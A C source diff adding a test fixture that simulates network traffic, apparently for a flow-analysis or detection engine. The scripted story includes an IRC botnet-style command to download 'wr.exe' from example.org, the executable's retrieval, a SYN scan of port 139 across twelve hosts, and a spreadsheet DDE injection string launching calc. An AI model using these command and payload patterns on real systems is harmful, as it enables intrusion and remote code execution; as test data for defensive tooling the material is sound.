@@ -212,6 +212,61 @@ story_get(struct story_fixture *f, const struct timeline_tuple *tuple, int64_t m
     g_free(answered);
 }
 
+#define ME "192.168.0.101"
+
+static void
+tell_scan(struct story_fixture *f)
+{
+    for (uint16_t i = 1; i <= 12; i++) {
+        char to[32];
+        const struct timeline_tuple tuple = {MF_L4_TCP, ME, (uint16_t)(2000 + i), to, 139};
+        struct mf_packet syn;
+
+        g_snprintf(to, sizeof to, "192.168.231.%u", i);
+        syn = timeline_packet(&tuple, MF_ORIG, 5000 + i * 50);
+        syn.tcp_flags = MF_TCP_SYN;
+        if (i != 5) {
+            story_feed(f, syn);
+            continue;
+        }
+        story_connect(f, &tuple, 5000 + i * 50);
+        story_say(f, &tuple, MF_ORIG, 5001 + i * 50, "boo");
+    }
+}
+
+static void
+tell_time(struct story_fixture *f)
+{
+    f->app = "NTP";
+    for (uint16_t i = 0; i < 3; i++) {
+        const struct timeline_tuple ntp = {MF_L4_UDP, ME, (uint16_t)(123 + i), "10.0.0.2", 123};
+
+        story_say(f, &ntp, MF_ORIG, 70000 + i * 1000, "what time is it?");
+    }
+    f->app = NULL;
+}
+
+void
+story_tell(struct story_fixture *f)
+{
+    static const struct timeline_tuple irc = {MF_L4_TCP, ME, 1031, "115.126.2.121", 65520};
+    static const struct timeline_tuple web = {MF_L4_TCP, ME, 1033, "115.126.2.120", 80};
+    uint32_t next[2];
+
+    story_connect(f, &irc, 0);
+    story_say(f, &irc, MF_ORIG, 200, "NICK abc\r\nUSER x . . :-\r\n");
+    story_say(f, &irc, MF_RESP, 1000, ":* PRIVMSG abc :!get http://example.org/wr.exe\r\n");
+    memcpy(next, f->next, sizeof next);
+    story_connect(f, &web, 2000);
+    story_get(f, &web, 2100, "/wr.exe", "MZ");
+    story_get(f, &web, 2200, "/other", "<b>&\"x\"</b>");
+    tell_scan(f);
+    memcpy(f->next, next, sizeof next);
+    story_say(f, &irc, MF_ORIG, 60000, "=cmd|'/C calc'!A1\r\n");
+    tell_time(f);
+    mf_engine_flush(f->base.engine);
+}
+
 void
 story_open(struct story_fixture *f)
 {
